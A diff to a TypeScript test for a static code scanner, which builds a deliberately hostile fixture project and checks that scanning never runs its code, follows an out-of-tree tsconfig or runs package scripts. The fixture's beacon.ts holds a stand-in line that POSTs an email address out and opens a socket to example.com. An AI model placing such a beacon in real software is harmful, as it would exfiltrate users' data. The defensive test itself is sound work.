@@ -74,7 +74,7 @@ function hostileProject(base: string): string {
   write(app, "src/side.js", `require("node:fs").writeFileSync(${mark("js")}, "ran");\n`);
   write(app, "src/mod.mjs", `import fs from "node:fs";\nfs.writeFileSync(${mark("mjs")}, "ran");\nawait import("./side.js");\n`);
   write(app, "src/c.cjs", `require("node:fs").writeFileSync(${mark("cjs")}, "ran");\nmodule.exports = require("./side.js");\n`);
-  write(app, "src/App.tsx", `import fs from "node:fs";\nfs.writeFileSync(${mark("tsx")}, "ran");\nexport const App = () => <input type="email" />;\n`);
+  write(app, "src/App.tsx", `import fs from "node:fs";\nimport { shout } from "some-package";\nfs.writeFileSync(${mark("tsx")}, "ran");\nexport const App = () => <input type="email" placeholder={shout("email")} />;\n`);
   write(app, "src/beacon.ts", `fetch("http://127.0.0.1:9/beacon", { method: "POST", body: JSON.stringify({ email }) });\nimport("node:net").then((n) => n.connect(9, "example.com"));\n`);
   for (const cfg of CONFIG_FILES) {
     write(app, cfg, `require("node:fs").writeFileSync(${mark(cfg)}, "ran");\nmodule.exports = {};\n`);
@@ -123,12 +123,13 @@ describe("scanning never executes, imports or requires the scanned code, nor rea
     const own = (p: string) => p.startsWith(app + sep) || p.startsWith(PACKAGE_ROOT) || p.startsWith(DEPENDENCIES);
     expect(opened.filter((p) => !own(p))).toEqual([]);
     expect([...new Set(opened.filter((p) => p.startsWith(app + sep)))].sort()).toEqual(
-      ["src/App.tsx", "src/beacon.ts", "src/c.cjs", "src/index.ts", "src/mod.mjs", "src/side.js", "node_modules/evil-plugin/index.js", "tsconfig.json", ...CONFIG_FILES.filter((f) => !f.startsWith("."))].map((f) => join(app, f)).sort(),
+      ["src/App.tsx", "src/beacon.ts", "src/c.cjs", "src/index.ts", "src/mod.mjs", "src/side.js", "node_modules/evil-plugin/index.js", "tsconfig.json", "package.json", ...CONFIG_FILES.filter((f) => !f.startsWith("."))].map((f) => join(app, f)).sort(),
     );
     // tsconfig.json is read for module resolution (paths, baseUrl), as data: its `extends` out of
     // the tree (a FIFO here) is not followed and its plugins are never loaded.
     expect(opened).not.toContain(join(base, "outside/tsconfig.base.json"));
-    expect(opened).not.toContain(join(app, "package.json"));
+    // package.json is read as JSON, for the name a monorepo's packages import each other by
+    // (a call of an import from "some-package" asks whether a package of the tree is named so); its scripts never run.
     // The one process spawned is git, asking for the commit to put in report headers.
     expect(trace.filter((t) => t.kind === "spawn").map((t) => t.detail)).toEqual(["git -c core.fsmonitor=false rev-parse HEAD --abbrev-ref HEAD"]);
   });
